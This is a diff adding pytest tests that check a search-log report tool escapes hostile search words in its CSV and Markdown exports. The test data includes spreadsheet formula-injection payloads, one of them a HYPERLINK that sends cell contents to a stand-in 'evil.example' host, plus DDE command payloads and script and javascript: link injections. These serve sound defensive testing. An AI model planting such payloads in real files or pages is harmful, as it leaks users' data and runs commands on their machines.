@@ -408,3 +408,63 @@ def test_a_busy_store_drops_the_line_quickly(tmp_path):
             assert time.monotonic() - t0 < 5
         assert reader.db.execute("PRAGMA busy_timeout").fetchone()[0] == 30000
         assert searchlog.log_search(reader, "pcb", 1) is True
+
+
+# ----------------------------------------------------------------------------------------------- hostile words
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0"]
+MARKUP = ["<script>alert(1)</script>", "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
+          "*bold* _it_ `code` ~~gone~~ a|b"]
+
+
+def _check_csv(text: str) -> None:
+    """Every gap label that a spreadsheet would read as a formula starts with a single quote instead."""
+    keys = [k for s, k, _ in csv.reader(io.StringIO(text)) if s == "gaps"]
+    for word in FORMULAS:
+        assert "'" + searchlog.normalise(word) in keys, (word, keys)
+    for s, k, v in csv.reader(io.StringIO(text)):
+        assert not any(cell.startswith(report.FORMULA_STARTS) for cell in (s, k, v)), (s, k, v)
+
+
+def _check_md(text: str) -> None:
+    """No tag, link, image or emphasis from the search words survives into the Markdown."""
+    assert "<script" not in text and "<" not in text.split("## Information gaps")[1]
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
+    assert "\\[click\\](javascript:alert(1)) !\\[x\\](http://evil.example/x.png)" in text
+    assert "\\*bold\\* \\_it\\_ \\`code\\` \\~\\~gone\\~\\~ a\\|b" in text
+    gaps = text.split("## Information gaps")[1].splitlines()
+    rows = [line for line in gaps if line.startswith("| ") and "searches" not in line]
+    assert all(line.replace("\\|", "").count("|") == 6 for line in rows), rows   # five cells each, no more
+
+
+def test_csv_cells_that_start_a_formula_are_quoted():
+    assert [report.csv_cell(v) for v in ("=1+1", "+1", "-1", "@A1", "\tx", "\rx", "pcb", "a=b", 3, -3, 0.5)] == [
+        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "pcb", "a=b", 3, -3, 0.5]
+
+
+def test_report_cli_neutralises_formulas_and_markup_in_search_words(store, tmp_path):
+    from click.testing import CliRunner
+    from cli import main
+    for word in FORMULAS + MARKUP:
+        log(store, word, 0)
+    cfg = tmp_path / "node.yaml"
+    cfg.write_text(yaml.safe_dump({"node": {"id": "ke", "name": "Kenya"}, "store": {"path": str(store.path)},
+                                   "index": {"backend": "embedded"}}))
+    out = {}
+    for fmt in ("csv", "md"):
+        r = CliRunner().invoke(main, ["--config", str(cfg), "report", "--format", fmt])
+        assert r.exit_code == 0, r.output
+        out[fmt] = r.stdout
+    _check_csv(out["csv"])
+    _check_md(out["md"])
+
+
+def test_report_api_neutralises_formulas_and_markup_in_search_words(node):
+    for word in FORMULAS + MARKUP:
+        assert requests.get(f"{node.url}/api/search", params={"q": word}, timeout=30).status_code == 200
+    csv_answer = requests.get(f"{node.url}/api/report", params={"format": "csv"}, timeout=30)
+    md_answer = requests.get(f"{node.url}/api/report", params={"format": "md"}, timeout=30)
+    _check_csv(csv_answer.text)
+    _check_md(md_answer.text)
+    assert md_answer.headers["x-content-type-options"] == "nosniff"
